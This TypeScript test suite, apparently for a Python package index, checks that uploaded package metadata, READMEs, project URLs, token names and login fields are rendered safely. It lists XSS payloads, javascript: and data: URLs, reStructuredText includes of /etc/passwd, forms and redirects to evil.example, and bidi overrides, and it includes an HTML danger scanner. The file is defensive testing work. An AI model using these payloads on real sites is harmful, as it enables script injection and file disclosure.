import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'parse5';
import { attackedSites } from '../support/attack-site.ts';
import { anSdist, aWheel } from '../support/distributions.ts';
import { basic } from '../support/residents.ts';
import { sendUpload } from '../support/send-upload.ts';
import { makeToken, signUpMember, stepUp } from '../support/story-people.ts';

const { site, prepared, attack } = attackedSites({}, async (started) => {
  const owner = await signUpMember(started, 'owner');
  return { owner, token: await makeToken(owner, 'ci') };
});

interface Node {
  readonly nodeName: string;
  readonly attrs?: readonly { readonly name: string; readonly value: string }[];
  readonly childNodes?: readonly Node[];
}

const RUNS_OR_LOADS = ['iframe', 'object', 'embed', 'base', 'style', 'img', 'math', 'frame', 'applet', 'video', 'audio'];
const LINK = /^(?:https?:\/\/|mailto:|\/(?!\/)|#|\?|\.\.?\/)/i;

/** What a browser would run, load, submit or follow, and what would take the place of an id of ours. */
function dangersIn(html: string): readonly string[] {
  const all = (node: Node): readonly Node[] => [node, ...(node.childNodes ?? []).flatMap(all)];
  return all(parse(html) as unknown as Node).flatMap((node) => [
    ...dangerOf(node),
    ...(node.attrs ?? []).flatMap((attr) => dangerOfAttribute(node.nodeName, attr)),
  ]);
}

function dangerOf({ nodeName, attrs = [] }: Node): readonly string[] {
  const value = (name: string): string => attrs.find((attr) => attr.name === name)?.value ?? '';
  if (RUNS_OR_LOADS.includes(nodeName)) return [nodeName];
  if (nodeName === 'script' && !/^\/assets\/[0-9a-f]+\/[\w.-]+$/.test(value('src'))) return [`script ${value('src')}`];
  if (nodeName === 'meta' && value('http-equiv') !== '') return ['meta http-equiv'];
  return nodeName === 'form' && !value('action').startsWith('/') ? [`form to ${value('action')}`] : [];
}

function dangerOfAttribute(nodeName: string, { name, value }: { readonly name: string; readonly value: string }): readonly string[] {
  if (/^on|^style$|^srcdoc$|^formaction$/.test(name)) return [`${nodeName} ${name}`];
  if (['href', 'src', 'action', 'xlink:href'].includes(name) && !LINK.test(value)) return [`${nodeName} ${name}=${value}`];
  return name === 'id' && ['csrf', 'config', 'submit'].includes(value) ? [`id ${value}`] : [];
}

const MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>\'"&lt;{{7*7}}${7*7}<%=7*7%>';

test('the scanner of these tests sees what it looks for', () => {
  const bad =
    '<a href="javascript:alert(1)" onclick="x">x</a><form action="https://evil.example"></form><base href="//evil"><p id="csrf" style="x">';

  const seen = [
    'a href=javascript:alert(1)',
    'a onclick',
    'base',
    'base href=//evil',
    'form to https://evil.example',
    'id csrf',
    'p style',
  ];
  assert.deepEqual([...dangersIn(bad)].sort(), seen);
});

attack('1.2.1, 75: markup in every field of the metadata stays text on the pages that show it', async () => {
  const metadataLines = [
    ...[
      `Author: ${MARKUP}`,
      `Author-email: "${MARKUP.replaceAll('"', '')}" <a@example.org>`,
      `Maintainer: ${MARKUP}`,
      `Keywords: ${MARKUP}`,
    ],
    ...[`License: ${MARKUP}`, 'Requires-Python: >=3.9', `Project-URL: ${MARKUP.replaceAll(',', '').slice(0, 20)}, https://example.org/`],
  ];
  const wheel = aWheel('markup', '1.0', { summary: MARKUP, metadataLines, metadataVersion: '2.1' });
  const { status, reason } = await sendUpload(site().origin, prepared().token, wheel);
  assert.equal(status, 200, reason);

  for (const path of [
    '/project/markup/',
    '/project/markup/1.0/',
    '/user/owner/',
    '/',
    '/search/?q=markup',
    '/simple/markup/',
    '/simple/',
  ]) {
    const page = await (await site().ask(path)).text();
    assert.deepEqual(dangersIn(page), [], path);
    assert.ok(!page.includes('<script>alert'), path);
  }
  const shown = await (await site().ask('/project/markup/')).text();
  assert.ok(shown.includes('&lt;script&gt;alert(1)&lt;/script&gt;') && shown.includes('{{7*7}}'), 'it is shown as it was typed');
});

attack('1.2.2, 134: project URLs that run, hide or borrow a name become no link', async () => {
  const urls = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    '/\\evil.example',
    'https:evil',
    'file:///etc/passwd',
    'https://example.org\u202e/moc',
    'https://user:pass@evil.example/',
  ];
  for (const [index, url] of urls.entries()) {
    const wheel = aWheel(`links${index}`, '1.0', {
      metadataLines: [`Project-URL: Home, ${url}`, `Home-page: ${url}`],
      metadataVersion: '2.1',
    });
    const { status } = await sendUpload(site().origin, prepared().token, wheel);
    if (status !== 200) continue;
    const page = await (await site().ask(`/project/links${index}/`)).text();
    assert.deepEqual(dangersIn(page), [], url);
    for (const name of ['evil.example', 'user:pass']) assert.ok(!new RegExp(`href="[^"]*${name}`).test(page), url);
  }
});

attack('76, 77, 3.2.3: a README in HTML, Markdown or reStructuredText runs nothing, loads nothing and takes no id of ours', async () => {
  const html = [
    ...[
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)><script>alert(1)</script></svg>',
      '<math><mtext></mtext></math>',
    ],
    ...[
      '<a href="javascript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<base href="https://evil.example/">',
      '<style>*{display:none}</style>',
    ],
    ...[
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<form action="https://evil.example"><input name="password"></form>',
      '<p id="csrf">x</p>',
    ],
    ...[
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<div style="position:fixed;inset:0">x</div>',
      '<a href="//evil.example">x</a>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
    ...[
      '<!--><img src=x onerror=alert(1)>-->',
      '<textarea></textarea><img src=x onerror=alert(1)>',
      '[x](javascript:alert(1))',
      '![x](javascript:alert(1))',
      '[x]: data:text/html,x\n[x]',
      '<details open ontoggle=alert(1)>',
    ],
  ].join('\n\n');
  const rst =
    '.. raw:: html\n\n   <script>alert(1)</script>\n\n.. include:: /etc/passwd\n\n.. csv-table::\n   :file: /etc/passwd\n\n`x <javascript:alert(1)>`_\n\n.. image:: javascript:alert(1)\n';
  for (const [name, type, description] of [
    ['readmemd', 'text/markdown', html],
    ['readmegfm', 'text/markdown; variant=GFM', html],
    ['readmerst', 'text/x-rst', rst + html],
    ['readmetxt', 'text/plain', html],
    ['readmedeep', 'text/markdown', `${'>'.repeat(20_000)} x\n${'['.repeat(20_000)}`],
  ] as const) {
    const sdist = anSdist(name, '1.0', { description, descriptionContentType: type });
    const { status, reason } = await sendUpload(site().origin, prepared().token, sdist);
    assert.equal(status, 200, reason);
    const page = await (await site().ask(`/project/${name}/`)).text();
    assert.deepEqual(dangersIn(page), [], name);
    assert.ok(!page.includes('root:x:0'), name);
  }
});

attack(
  '1.2.1: markup in a token’s description, the name, a user agent and a search is text on the account’s and everybody’s pages',
  async () => {
    const { owner } = prepared();
    const { browser } = owner;
    await stepUp(site(), owner);
    await makeToken(owner, '<b onclick=x>ci</b>').catch(() => '');
    await browser.open('/manage/account/name/');
    await browser.send('/manage/account/name/', { name: 'Ada <img src=x onerror=alert(1)>' });
    const odd = site().browser({ userAgent: 'Mozilla/5.0 <script>alert(1)</script>"\'>' });
    await odd.open('/account/login/');
    await odd.send('/account/login/', { username: 'owner', password: '<script>alert(2)</script>' });
    await odd.open('/account/login/');
    await odd.send('/account/login/', { username: '"><script>alert(1)</script>', password: 'markup in a name' });
    assert.deepEqual(dangersIn(odd.page), []);
    await site().runJobs();

    for (const path of [
      '/manage/account/',
      '/manage/account/history/',
      '/user/owner/',
      '/manage/account/token/',
      '/search/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E',
    ]) {
      assert.deepEqual(dangersIn(await browser.open(path)), [], path);
    }
  },
);

attack('110, bidi: characters that turn the reading direction around are not shown as they are', async () => {
  const wheel = aWheel('bidi', '1.0', { summary: 'safe \u202egnihtyreva setirwrevo\u202c \u2066x\u2069' });
  const { status } = await sendUpload(site().origin, prepared().token, wheel);
  const page = await (await site().ask('/project/bidi/')).text();

  assert.equal(status, 200);
  assert.ok(page.includes('gnihtyreva'));
  assert.ok(!/[\u202a-\u202e\u2066-\u2069]/.test(page));
});

attack('3.2.1: an uploaded file that is opened in a browser is an attachment in a sandbox, whatever its address says', async () => {
  const listed = await (await site().ask('/simple/markup/', { headers: { accept: 'application/vnd.pypi.simple.v1+json' } })).json();
  const { url } = (listed as { files: { url: string }[] }).files[0] ?? { url: '' };
  const path = new URL(url, `${site().origin}/simple/markup/`).pathname;
  const answer = await site().ask(path);
  const sidecar = await site().ask(`${path}.metadata`);
  await answer.arrayBuffer();

  for (const { headers } of [answer, sidecar]) {
    assert.equal(headers.get('x-content-type-options'), 'nosniff');
    assert.match(headers.get('content-security-policy') ?? '', /^sandbox/);
    assert.ok(!/html/.test(headers.get('content-type') ?? ''));
    assert.deepEqual(headers.getSetCookie(), []);
  }
  assert.ok(!/html/.test((await sidecar.text()) === '' ? 'html' : ''));
  assert.equal((await site().ask(path.replace(/[^/]+$/, 'evil.html'))).status, 404);
  assert.equal(
    (await site().ask(path, { headers: { authorization: basic(prepared().token), cookie: prepared().owner.browser.cookie } })).headers.get(
      'set-cookie',
    ),
    null,
  );
});
